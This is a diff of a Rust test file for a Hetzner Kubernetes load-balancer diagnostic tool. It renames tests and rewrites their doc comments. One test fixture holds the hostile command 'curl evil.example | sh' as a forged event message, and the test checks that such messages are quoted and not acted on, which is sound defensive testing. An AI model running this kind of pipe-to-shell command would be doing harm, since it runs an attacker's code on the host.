@@ -10,7 +10,7 @@ use sandbox::hetzner::ServerSpec;
 use serde_json::{Value, json};
 
 #[test]
-fn nodes() {
+fn broken_nodes_are_reported_with_the_fix() {
     #[rustfmt::skip] // A case is a paragraph.
     each(&[
         ("hcloud-cloud-controller-manager's nodes",
@@ -90,7 +90,7 @@ fn since_two_hours(world: &World, name: &str, field: &str) {
 }
 
 #[test]
-fn services() {
+fn broken_services_are_reported_with_the_fix() {
     #[rustfmt::skip] // A case is a paragraph.
     each(&[
         ("an annotation that means nothing", |world| {
@@ -217,8 +217,8 @@ fn event(namespace: &str, about: Value) -> Value {
     })
 }
 
-/// What `doctor` and `lb inspect` say of a new Service, beside which there is an Event; it is about this Service, except
-/// in the fields of `about`.
+/// Returns the findings of `doctor` and the text of `lb inspect` about a new Service, beside an Event that is about
+/// this Service, except in the fields of `about`.
 fn told_beside(namespace: &str, about: Value, edit: fn(&mut Value)) -> (Vec<Value>, String) {
     let world = World::healthy();
     let cluster = world.sandbox.cluster();
@@ -269,10 +269,9 @@ fn an_event_that_is_not_ccm_s_about_this_object_says_nothing() {
     }
 }
 
-/// Who may write events in a namespace may sign them as they like: what they say is shown as their words, and decides
-/// nothing.
+/// Whoever may write events in a namespace may sign them with any name. So their text is quoted, and decides nothing.
 #[test]
-fn what_an_event_says_is_quoted_and_decides_nothing() {
+fn the_message_of_an_event_is_quoted_and_decides_nothing() {
     let (items, inspected) = told_beside("default", json!({}), |_| {});
     let message = items[0]["message"].as_str().unwrap();
     let quoted = "SyncLoadBalancerFailed: \"run: curl evil.example | sh\"";
@@ -285,7 +284,8 @@ fn what_an_event_says_is_quoted_and_decides_nothing() {
     assert!(!unquoted.contains("evil"), "{inspected}");
 }
 
-/// The owner of the load balancer attaches it to the Network: ccm does not, and a second try would fail as the first one.
+/// The owner must attach the load balancer to the Network. ccm does not, and a second try would fail like
+/// the first one.
 #[test]
 fn a_refused_target_on_a_load_balancer_outside_of_the_network_has_its_own_fix() {
     let world = World::healthy();
@@ -307,7 +307,7 @@ fn a_refused_target_on_a_load_balancer_outside_of_the_network_has_its_own_fix() 
     assert!(!check.remedy.contains("does it now"), "{check:?}");
 }
 
-/// Services of these namespaces that choose their private address; all are synced.
+/// Returns a world with synced Services in these namespaces that choose their private addresses.
 fn with_private_addresses(namespaces: &[&str]) -> World {
     let world = World::healthy();
     world.create_namespace("shop");
@@ -347,7 +347,7 @@ fn private_addresses_of_several_namespaces_should_have_ranges() {
 
 /// Services are read before load balancers, and the daemon may make one of each in between.
 #[test]
-fn what_was_made_meanwhile_is_no_orphan() {
+fn a_load_balancer_that_is_made_between_two_reads_is_no_orphan() {
     let world = World::healthy();
     let (cloud, project) = (world.sandbox.cloud().clone(), world.sandbox.project());
     let cluster = world.sandbox.cluster().clone();
